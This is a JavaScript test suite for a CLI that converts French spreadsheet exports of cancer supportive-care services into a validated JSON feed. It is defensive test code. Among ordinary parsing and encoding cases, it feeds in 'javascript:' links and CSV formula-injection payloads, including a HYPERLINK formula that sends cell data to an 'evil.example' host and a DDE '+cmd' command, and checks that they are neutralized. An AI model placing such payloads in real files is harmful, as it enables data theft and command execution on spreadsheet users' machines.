// `sos-feed from-csv`: spreadsheet exports as data stewards produce them (French Excel `;`,
// Windows-1252 with `,`, multi-line cells, labels instead of codes) → a feed that validates.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';

const root = resolve(import.meta.dirname, '../..');
const cli = join(root, 'dist/cli/sos-feed.js');
const dir = mkdtempSync(join(tmpdir(), 'sos-csv-'));
const PUBLISHER = ['--publisher-id', 'onco-exemple', '--publisher-name', 'Onco-Exemple', '--region', '75', '--now', '2026-11-22', '--generated-at', '2026-11-22T08:00:00Z'];

function run(args) {
  return new Promise((done) => {
    execFile(process.execPath, [cli, ...args], { cwd: root, timeout: 20_000 }, (error, stdout, stderr) => {
      done({ code: error ? error.code ?? 1 : 0, stdout, stderr });
    });
  });
}

/** Converts a CSV (text or bytes) and returns exit code, report (stderr) and the feed (stdout). */
async function convert(name, content, extra = []) {
  const file = join(dir, name);
  writeFileSync(file, content);
  const r = await run(['from-csv', file, ...PUBLISHER, ...extra]);
  return { ...r, feed: r.stdout ? JSON.parse(r.stdout) : undefined };
}

/** Windows-1252 bytes (what Excel on Windows writes for "CSV"). */
function cp1252(text) {
  const special = { '€': 0x80, '‚': 0x82, '’': 0x92, '‘': 0x91, '“': 0x93, '”': 0x94, '–': 0x96, '—': 0x97, 'œ': 0x9c, 'Œ': 0x8c };
  return Buffer.from([...text].map((ch) => special[ch] ?? (ch.charCodeAt(0) < 256 ? ch.charCodeAt(0) : 0x3f)));
}

const HEAD = 'structure_id;structure_nom;type_structure;code_postal;commune;latitude;longitude;verifie_le;offre_id;soin;publics;lieux;site_web;description_offre';
const row = (cells) => cells.join(';');
const S1 = ['cs-a', 'Centre A', 'centre-sante', '33000', 'Bordeaux', '44,84', '-0,58', '2026-09-01'];
const S2 = ['asso-b', 'Association B', 'association', '87000', 'Limoges', '45,83', '1,26', '2026-09-01'];

test('the documented example spreadsheet converts to a valid feed (exit 0)', async () => {
  const file = join(root, 'data-schema/exemple-tableur.csv');
  const r = await run(['from-csv', file, ...PUBLISHER]);
  assert.equal(r.code, 0, r.stderr);
  const feed = JSON.parse(r.stdout);
  assert.equal(feed.format, 'sos-feed/1');
  assert.deepEqual(feed.publisher, { id: 'onco-exemple', name: 'Onco-Exemple', region: '75' });
  assert.equal(feed.generatedAt, '2026-11-22T08:00:00Z');
  assert.deepEqual(feed.structures.map((s) => [s.id, s.offers.length]), [['ch-exemple-sos', 2], ['ligue-exemple', 3], ['asso-exemple-aidants', 1]]);
  const [chu, ligue] = feed.structures;
  assert.deepEqual(chu.location, { lat: 44.8378, lon: -0.5792 }); // decimal comma
  assert.equal(chu.verifiedAt, '2026-09-15'); // 15/09/2026
  assert.equal(chu.accessibility.wheelchair, true); // "oui"
  // French labels instead of codes: "Prise en charge psychologique", "Patients|Proches et aidants", "À domicile".
  assert.equal(chu.offers[1].care, 'psychologie');
  assert.deepEqual(chu.offers[1].audiences, ['patient', 'proche-aidant']);
  assert.deepEqual(ligue.offers[2].settings, ['ville', 'domicile']);
  // A quoted cell holding the delimiter and a line break.
  assert.equal(chu.offers[1].description, 'Entretiens individuels ; sur rendez-vous.\nUn psychologue rappelle sous 48 h.');
  // Service areas (zone_* columns): INSEE codes and a radius with a decimal comma; départements.
  assert.deepEqual(chu.offers[1].serviceArea, { communes: ['33063', '33318'], radiusKm: 30.5 });
  assert.deepEqual(ligue.offers[2].serviceArea, { departments: ['87', '23'] });
  assert.equal(chu.offers[0].serviceArea, undefined);
  // FEED-SPEC 1.1 columns: OSM hours (a quoted cell: the syntax uses ";"), language names, a
  // JJ/MM/AAAA closure, howTo labels, booking links, an offer's own hours.
  const asso = feed.structures[2];
  assert.equal(chu.openingHours, 'Mo-Fr 09:00-17:00; PH off');
  assert.equal(chu.hours, 'Du lundi au vendredi, 9 h – 17 h');
  assert.deepEqual(chu.languages, ['en', 'es']);
  assert.deepEqual(chu.accessibility, { wheelchair: true, acceslibre: 'https://acceslibre.beta.gouv.fr/app/33-bordeaux/a/centre-hospitalier/erp/ch-exemple-soins-de-support/' });
  assert.deepEqual(chu.offers.map((o) => o.howTo), [['orientation-professionnel'], ['telephone', 'rendez-vous-en-ligne']]);
  assert.equal(chu.offers[1].bookingUrl, 'https://rdv.ch-exemple.test/psychologie');
  assert.deepEqual(ligue.closure, { from: '2026-12-21', until: '2027-01-04', note: 'Fermeture annuelle' });
  assert.deepEqual(ligue.offers.map((o) => o.howTo), [['telephone', 'sur-place'], ['courriel'], ['telephone', 'orientation-professionnel']]);
  assert.deepEqual(ligue.offers.map((o) => o.openingHours), ['Tu 10:00-12:00', undefined, 'Th 14:00-17:00']);
  assert.deepEqual([asso.openingHours, asso.languages, asso.offers[0].howTo, asso.offers[0].bookingUrl], ['We 14:00-18:00', ['ar'], ['formulaire'], 'https://entraide-exemple.test/inscription-groupe']);
  assert.match(r.stderr, /Lecture : UTF-8, séparateur « ; », 6 lignes de données/);
  assert.match(r.stderr, /Verdict : flux valide produit/);
});

test('`,` delimiter in Windows-1252: accents decoded, typographic apostrophe kept', async () => {
  const text = [
    'structure_id,structure_nom,type_structure,code_postal,commune,verifie_le,offre_id,soin,intitule,publics,lieux',
    'eri-x,"Espace d’accueil Hôpital Sainte-Thérèse",eri,64000,Pau,2026-05-01,eri-x-1,Espace de rencontres et d’information,"Accueil, écoute",patient|proche-aidant,etablissement',
    '',
  ].join('\r\n');
  const r = await convert('cp1252.csv', cp1252(text));
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stderr, /Windows-1252, séparateur « , »/);
  const s = r.feed.structures[0];
  assert.equal(s.name, 'Espace d’accueil Hôpital Sainte-Thérèse');
  assert.equal(s.offers[0].care, 'eri');
  assert.equal(s.offers[0].label, 'Accueil, écoute');
});

test('UTF-8 with BOM and "Vérifié le"-style headers are accepted', async () => {
  const text = '\uFEFFStructure ID;Structure nom;Type structure;Code postal;Commune;Vérifié le;Offre ID;Soin;Publics;Lieux\n'
    + 'cs-a;Centre A;Centre de santé;33000;Bordeaux;01/09/2026;o1;Douleur;patients;En ville (cabinet, association)\n';
  const r = await convert('bom.csv', text);
  assert.equal(r.code, 0, r.stderr);
  const s = r.feed.structures[0];
  assert.equal(s.kind, 'centre-sante');
  assert.equal(s.verifiedAt, '2026-09-01');
  assert.deepEqual([s.offers[0].care, s.offers[0].audiences, s.offers[0].settings], ['douleur', ['patient'], ['ville']]);
});

test('a bad row is reported with its spreadsheet row and column, skipped, the rest kept (exit 1)', async () => {
  const text = [
    HEAD,
    row([...S1, 'a-1', 'douleur', 'patient', 'etablissement', '', '"Première ligne\nseconde ligne ; avec ""guillemets"""']),
    row([...S1, 'a-2', 'homeopathie', 'patient', 'etablissement', '', '']),
    row([...S2, 'b-1', 'psychologie', 'patient', 'ville', 'javascript:alert(1)', '']),
    row([...S2, 'b-2', 'nutrition', 'tout le monde', 'ville', '', '']),
  ].join('\n');
  const r = await convert('bad-row.csv', text);
  assert.equal(r.code, 1, r.stderr);
  // Row 2 spans two text lines: the next record is still spreadsheet row 3.
  assert.match(r.stderr, /ligne 3, colonne « soin » : code inconnu "homeopathie" : ligne ignorée/);
  assert.match(r.stderr, /ligne 5, colonne « publics » : code inconnu "tout le monde"/);
  // A javascript: link is dropped alone, the row kept.
  assert.match(r.stderr, /ligne 4, colonne « site_web » : lien refusé "javascript:alert\(1\)".* : valeur ignorée/);
  assert.match(r.stderr, /Verdict : flux produit sans 2 lignes sur 4/);
  assert.deepEqual(r.feed.structures.map((s) => s.offers.map((o) => o.id)), [['a-1'], ['b-1']]);
  assert.equal(r.feed.structures[1].contact, undefined);
  assert.equal(r.feed.structures[0].offers[0].description, 'Première ligne\nseconde ligne ; avec "guillemets"');
});

test('a bad structure cell rejects all the rows of that structure', async () => {
  const bad = [...S1]; bad[3] = '3300'; bad[7] = '2026-13-45';
  const text = [HEAD, row([...bad, 'a-1', 'douleur', 'patient', 'ville', '', '']), row([...bad, 'a-2', 'nutrition', 'patient', 'ville', '', '']), row([...S2, 'b-1', 'social', 'patient', 'ville', '', ''])].join('\n');
  const r = await convert('bad-structure.csv', text);
  assert.equal(r.code, 1);
  assert.match(r.stderr, /ligne 2, colonne « verifie_le » : date invalide "2026-13-45".*structure « cs-a » ignorée avec ses 2 lignes \(2, 3\)/);
  assert.match(r.stderr, /ligne 3 : structure « cs-a » ignorée \(voir ligne 2\)/);
  assert.deepEqual(r.feed.structures.map((s) => s.id), ['asso-b']);
});

test('lost leading zeros are restored with a warning; structure cells that differ are reported', async () => {
  const first = ['cs-c', 'Centre C', 'msp', '1000', 'Bourg-en-Bresse', '', '', '2026-09-01'];
  const second = [...first]; second[1] = 'Centre C bis';
  const text = [HEAD, row([...first, 'c-1', 'douleur', 'patient', 'ville', '', '']), row([...second, 'c-2', 'social', 'patient', 'ville', '', ''])].join('\n');
  const r = await convert('zeros.csv', text);
  assert.equal(r.code, 0, r.stderr);
  assert.equal(r.feed.structures[0].address.postalCode, '01000');
  assert.equal(r.feed.structures[0].name, 'Centre C');
  assert.match(r.stderr, /ligne 2, colonne « code_postal » : « 1000 » complété en « 01000 »/);
  assert.match(r.stderr, /ligne 3, colonne « structure_nom » : "Centre C bis" diffère de la ligne 2/);
});

test('zone_* columns: codes split on "|", lost leading zeros restored per code, bad values dropped alone with their cell', async () => {
  const head = `${HEAD};zone_departements;zone_communes;zone_rayon_km`;
  const text = [
    head,
    row([...S1, 'a-1', 'soins-palliatifs', 'patient', 'domicile', '', '', '1 | 33|2a', '1004|33063', '12,5']),
    row([...S1, 'a-2', 'psychologie', 'patient', 'distance', '', '', '33|330|24', '', '-3']),
    row([...S2, 'b-1', 'social', 'patient', 'ville|domicile', '', '', '', '87085|8708', '']),
  ].join('\n');
  const r = await convert('zones.csv', text);
  assert.equal(r.code, 0, r.stderr);
  const [a, b] = r.feed.structures;
  assert.deepEqual(a.offers[0].serviceArea, { departments: ['01', '33', '2A'], communes: ['01004', '33063'], radiusKm: 12.5 });
  assert.match(r.stderr, /ligne 2, colonne « zone_departements » : « 1 » complété en « 01 » \(zéro initial perdu par le tableur \?\)/);
  assert.match(r.stderr, /ligne 2, colonne « zone_communes » : « 1004 » complété en « 01004 »/);
  // A bad code goes alone, a bad radius alone: the row and the rest of its area are kept.
  assert.deepEqual(a.offers[1].serviceArea, { departments: ['33', '24'] });
  assert.match(r.stderr, /ligne 3, colonne « zone_departements » : format invalide "330" \(code département : "33", "2A", "971"…\) : valeur ignorée/);
  assert.match(r.stderr, /ligne 3, colonne « zone_rayon_km » : valeur trop petite "-3" \(rayon en kilomètres : plus de 0, 1000 au plus\) : valeur ignorée/);
  // Any 4-digit commune code is one whose leading zero was lost (01…09).
  assert.deepEqual(b.offers[0].serviceArea, { communes: ['87085', '08708'] });
});

test('1.1 columns: language names and codes, howTo labels, JJ/MM/AAAA closures; bad values dropped alone with their cell, the row kept', async () => {
  const head = `${HEAD};horaires_osm;fermeture_du;fermeture_au;fermeture_note;langues;acceslibre;modalites_acces;lien_reservation;offre_horaires_osm`;
  const text = [
    head,
    row([...S1, 'a-1', 'douleur', 'patient', 'ville', '', '', '"Mo-Fr 09:00-12:30,13:30-17:00; PH off"', '24/12/2026', '02/01/2027', 'Fermeture annuelle', 'Anglais | arabe|BRETON|es|klingon', 'javascript:alert(1)', 'Par téléphone|sms|Prendre rendez-vous en ligne', 'https://example.org/rdv', 'We 14:00-17:00']),
    row([...S2, 'b-1', 'social', 'patient', 'ville', '', '', 'Lu-Ve 09:00-17:00', '2026-12-21', '2026-12-01', '', 'portugais', '', 'formulaire', 'www.example.org/inscription', '']),
    row([...S2, 'b-2', 'psychologie', 'patient', 'ville', '', '', 'Lu-Ve 09:00-17:00', '2026-12-21', '2026-12-01', '', 'portugais', '', 'courriel', '', 'We 14h-17h']),
  ].join('\n');
  const r = await convert('v11.csv', text);
  assert.equal(r.code, 0, r.stderr);
  const [a, b] = r.feed.structures;
  assert.equal(a.openingHours, 'Mo-Fr 09:00-12:30,13:30-17:00; PH off');
  assert.deepEqual(a.closure, { from: '2026-12-24', until: '2027-01-02', note: 'Fermeture annuelle' });
  assert.deepEqual(a.languages, ['en', 'ar', 'br', 'es']);
  assert.match(r.stderr, /ligne 2, colonne « langues » : code de langue inconnu "klingon" \(attendu un code ISO 639-1 : deux lettres minuscules, par ex\. "en", "es", "ar"\) : valeur ignorée/);
  assert.equal(a.accessibility, undefined);
  assert.match(r.stderr, /ligne 2, colonne « acceslibre » : lien refusé "javascript:alert\(1\)" : seules les adresses http:\/\/ et https:\/\/ sont admises : valeur ignorée/);
  assert.deepEqual(a.offers[0].howTo, ['telephone', 'rendez-vous-en-ligne']);
  assert.match(r.stderr, /ligne 2, colonne « modalites_acces » : code inconnu "sms" \(codes admis : telephone, courriel, sur-place, rendez-vous-en-ligne, formulaire, orientation-professionnel\) : valeur ignorée/);
  assert.equal(a.offers[0].bookingUrl, 'https://example.org/rdv');
  assert.equal(a.offers[0].openingHours, 'We 14:00-17:00');
  // A closure that ends before it starts goes whole, the structure and both its rows are kept.
  assert.equal(b.closure, undefined);
  assert.deepEqual(b.languages, ['pt']);
  assert.match(r.stderr, /ligne 3, colonne « fermeture_au » : fin de fermeture "2026-12-01" antérieure à son début "2026-12-21" : fermeture ignorée, la structure reste listée/);
  assert.deepEqual(b.offers.map((o) => [o.id, o.howTo, o.bookingUrl]), [['b-1', ['formulaire'], undefined], ['b-2', ['courriel'], undefined]]);
  assert.match(r.stderr, /ligne 3, colonne « lien_reservation » : lien refusé "www\.example\.org\/inscription" .* : valeur ignorée/);
  // Hours the reader cannot read are kept as text, with why and where.
  assert.equal(b.openingHours, 'Lu-Ve 09:00-17:00');
  assert.equal(b.offers[1].openingHours, 'We 14h-17h');
  assert.match(r.stderr, /ligne 3, colonne « horaires_osm » : horaires illisibles "Lu-Ve 09:00-17:00" : mot inconnu \(jours en anglais abrégé : Mo Tu We Th Fr Sa Su.*\), à « Lu-Ve 09:00-17:00 »/);
  assert.match(r.stderr, /ligne 4, colonne « offre_horaires_osm » : horaires illisibles "We 14h-17h" : heure invalide \(attendu HH:MM-HH:MM, par ex\. 09:00-12:30\), à « 14h-17h »/);
});

test('missing offre_id: a stable id is generated with a warning; duplicates reject the row', async () => {
  const text = [HEAD, row([...S1, '', 'douleur', 'patient', 'ville', '', '']), row([...S1, '', 'douleur', 'patient', 'ville', '', '']), row([...S2, 'cs-a-douleur', 'social', 'patient', 'ville', '', ''])].join('\n');
  const r = await convert('ids.csv', text);
  assert.equal(r.code, 1);
  assert.deepEqual(r.feed.structures[0].offers.map((o) => o.id), ['cs-a-douleur', 'cs-a-douleur-2']);
  assert.match(r.stderr, /ligne 4, colonne « offre_id » : identifiant "cs-a-douleur" déjà utilisé ligne 2/);
});

test('unusable spreadsheet: missing required columns, empty file, bad options → exit 2', async () => {
  // « nom » is read as structure_nom (a usual header); « Comune » is probably commune.
  const noCols = await convert('cols.csv', 'structure_id;nom;Comune\nx;y;z\n');
  assert.equal(noCols.code, 2);
  assert.match(noCols.stderr, /colonnes obligatoires absentes : type_structure, code_postal, commune, verifie_le, soin, publics, lieux \(« Comune » pour commune \?\)/);
  assert.match(noCols.stderr, /ligne 1, colonne « Comune » : colonne inconnue, ignorée \(voir data-schema\/csv-columns\.md\) : vouliez-vous dire « commune » \?/);
  assert.equal(noCols.stdout, '');
  const empty = await convert('empty.csv', `${HEAD}\n;;;;\n`);
  assert.equal(empty.code, 2);
  assert.match(empty.stderr, /aucune ligne de données/);
  const quote = await convert('quote.csv', `${HEAD}\n${row([...S1, 'a', 'douleur', 'patient', 'ville', '', '"pas fermé'])}\n`);
  assert.equal(quote.code, 2);
  assert.match(quote.stderr, /guillemet ouvert ligne 2 et jamais fermé/);
  const file = join(dir, 'ok.csv');
  writeFileSync(file, `${HEAD}\n${row([...S1, 'a', 'douleur', 'patient', 'ville', '', ''])}\n`);
  const noPublisher = await run(['from-csv', file]);
  assert.equal(noPublisher.code, 2);
  assert.match(noPublisher.stderr, /options obligatoires : --publisher-id, --publisher-name/);
  const badId = await run(['from-csv', file, '--publisher-id', 'Onco Exemple', '--publisher-name', 'X']);
  assert.equal(badId.code, 2);
  assert.match(badId.stderr, /option --publisher-id : format invalide "Onco Exemple"/);
  const missing = await run(['from-csv', join(dir, 'absent.csv'), ...PUBLISHER]);
  assert.equal(missing.code, 2);
  assert.match(missing.stderr, /fichier introuvable/);
});

test('round trip: from-csv --out, then validate exits 0', async () => {
  const out = join(dir, 'feed.json');
  const r = await run(['from-csv', join(root, 'data-schema/exemple-tableur.csv'), ...PUBLISHER, '--license', 'Licence Ouverte 2.0', '--contact-email', 'annuaire@onco-exemple.test', '--out', out]);
  assert.equal(r.code, 0, r.stderr);
  assert.equal(r.stdout, '');
  assert.match(r.stderr, new RegExp(`Flux produit : 3 structures, 6 offres → ${out.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
  const feed = JSON.parse(readFileSync(out, 'utf8'));
  assert.deepEqual(feed.publisher.contact, { email: 'annuaire@onco-exemple.test' });
  const v = await run(['validate', out, '--now', '2026-11-22', '--json']);
  assert.equal(v.code, 0, v.stdout);
  const report = JSON.parse(v.stdout);
  assert.deepEqual(report.counts.offers, { total: 6, valid: 6, dropped: 0 });
  // Only the structure without coordinates remains worth a remark.
  assert.deepEqual(report.warnings.map((w) => w.code), ['location-missing']);
});

test('formula-looking cells: kept as typed text in the feed, each reported with its row and column; numbers and phones are not formulas', async () => {
  const head = `${HEAD};telephone;intitule;precision_cout;calendrier`;
  const text = [
    head,
    // = (a link sending data away), + (DDE: runs a program), - (arithmetic), @ (a function), after spaces or a tab.
    row([...S1, 'a-1', 'douleur', 'patient', 'ville', '', '"=HYPERLINK(""http://evil.example/?d=""&A1;""Cliquez"")"', '+33 5 56 79 58 58', "+cmd|' /C calc'!A0", '-2+3', '"\t@SUM(1+1)"']),
    // A negative longitude (S2: 1,26 → here -1,26), a phone with brackets, a number with a sign: no warning.
    row(['asso-b', 'Association B', 'association', '87000', 'Limoges', '45,83', '-1,26', '2026-09-01', 'b-1', 'social', 'patient', 'ville', '', 'Groupe de parole', '+33 (0)5 55 00 00 00', 'Atelier', '-10 % avec la carte', '+2 séances']),
  ].join('\n');
  const r = await convert('formulas.csv', text);
  assert.equal(r.code, 0, r.stderr);
  const [a, b] = r.feed.structures;
  assert.equal(a.offers[0].description, '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")');
  assert.equal(a.offers[0].label, "+cmd|' /C calc'!A0");
  assert.equal(a.offers[0].costNote, '-2+3');
  assert.equal(a.offers[0].schedule, '@SUM(1+1)');
  assert.equal(a.contact.phone, '+33 5 56 79 58 58');
  assert.equal(b.location.lon, -1.26);
  assert.equal(b.contact.phone, '+33 (0)5 55 00 00 00');
  assert.match(r.stderr, /Formules de tableur neutralisées \(gardées comme texte\) \(6\)/);
  assert.match(r.stderr, /ligne 2, colonne « description_offre » : "=HYPERLINK\("http:\/\/evil\.example\/\?d="&A1;"Cliquez"\)" commence par « = » comme une formule de tableur : formule neutralisée, gardée telle quelle comme texte dans le flux/);
  assert.match(r.stderr, /ligne 2, colonne « intitule » : "\+cmd\|' \/C calc'!A0" commence par « \+ »/);
  assert.match(r.stderr, /ligne 2, colonne « precision_cout » : "-2\+3" commence par « - »/);
  assert.match(r.stderr, /ligne 2, colonne « calendrier » : "@SUM\(1\+1\)" commence par « @ »/);
  // Text that only starts like a formula is still reported: a spreadsheet would run it too.
  assert.match(r.stderr, /ligne 3, colonne « precision_cout » : "-10 % avec la carte" commence par « - »/);
  assert.match(r.stderr, /ligne 3, colonne « calendrier » : "\+2 séances" commence par « \+ »/);
  assert.doesNotMatch(r.stderr, /colonne « (telephone|longitude|latitude) » : .*formule/);
});

test('from-csv is linear in the number of structures: 20,000 structures in seconds, not a minute', async () => {
  const lines = [HEAD];
  for (let i = 0; i < 20_000; i++) lines.push(row([`s-${i}`, `Structure ${i}`, 'association', '33000', 'Bordeaux', '44,84', '-0,58', '2026-09-01', `o-${i}`, 'douleur', 'patient', 'ville', '', '']));
  const file = join(dir, 'many.csv');
  writeFileSync(file, lines.join('\n'));
  const started = Date.now();
  const r = await new Promise((done) => {
    execFile(process.execPath, [cli, 'from-csv', file, ...PUBLISHER, '--out', join(dir, 'many.json')], { cwd: root, timeout: 60_000 }, (error, stdout, stderr) => done({ code: error ? error.code ?? 1 : 0, stderr }));
  });
  const ms = Date.now() - started;
  assert.equal(r.code, 0, r.stderr.slice(0, 2000));
  assert.match(r.stderr, /Flux produit : 20000 structures, 20000 offres/);
  // Quadratic, this took 18 to 54 s; linear, under 2 s (scripts/bench-from-csv.mjs times 10k/20k/40k).
  assert.ok(ms < 20_000, `${ms} ms`);
});

test('a 150 MB cell in Windows-1252 converts (the spreadsheet is cut in slices, not built character by character)', async () => {
  const head = Buffer.from('structure_id;structure_nom;type_structure;code_postal;commune;verifie_le;offre_id;soin;publics;lieux;description_offre\ncs-a;Centre A;centre-sante;33000;Bordeaux;2026-09-01;a-1;douleur;patient;ville;"', 'latin1');
  const file = join(dir, 'huge-cell.csv');
  writeFileSync(file, Buffer.concat([head, Buffer.alloc(150_000_000, 0xe9), Buffer.from('"\n')]));
  const r = await new Promise((done) => {
    execFile(process.execPath, [cli, 'from-csv', file, ...PUBLISHER, '--out', join(dir, 'huge-cell.json')], { cwd: root, timeout: 90_000 }, (error, stdout, stderr) => done({ code: error ? error.code ?? error.signal ?? 1 : 0, stderr }));
  });
  assert.equal(r.code, 0, r.stderr.slice(0, 2000));
  assert.match(r.stderr, /Windows-1252/);
  assert.match(r.stderr, /ligne 2, colonne « description_offre » : texte coupé à 4000 caractères/);
  const feed = JSON.parse(readFileSync(join(dir, 'huge-cell.json'), 'utf8'));
  assert.match(feed.structures[0].offers[0].description, /^é{3999}…$/);
});
